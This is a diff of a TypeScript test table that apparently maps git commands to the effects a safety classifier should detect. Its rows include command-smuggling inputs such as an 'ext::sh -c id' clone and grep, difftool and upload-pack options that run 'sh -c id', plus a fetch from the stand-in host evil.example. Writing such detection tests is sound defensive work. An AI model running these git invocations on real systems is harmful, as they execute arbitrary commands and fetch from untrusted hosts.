@@ -31,7 +31,7 @@ const PUSH: readonly Row[] = [
   ['git fetch origin main', []],
   ['git fetch https://evil.example/x.git', ['to https://evil.example/x.git nothing']],
   ['git pull --rebase origin main', []],
-  ["git clone 'ext::sh -c id%S' x", ['create x -r', 'sh: sh -c id%S']],
+  ["git clone 'ext::sh -c id%S' x", ['create x -r', 'run: sh -c id%S']],
   [
     'git clone --depth 1 https://github.com/acme/lib.git /home/dev/lib',
     ['create /home/dev/lib -r', 'to https://github.com/acme/lib.git nothing'],
@@ -192,7 +192,7 @@ const OUTPUT: readonly Row[] = [
   ['git am --abort', []],
   ["git grep -O'sh -c id' foo", ['vcs-config grep -O', 'sh: sh -c id']],
   ['git grep -Oless foo', ['sh: less']],
-  ['git grep -n foo -- src', []],
+  ['git grep -n foo -- src', ['read src']],
   ["git difftool -x 'sh -c id'", ['vcs-config difftool -x', 'sh: sh -c id']],
   ["git fetch --upload-pack='sh -c id' origin", ['vcs-config --upload-pack', 'sh ?: sh -c id']],
 ];
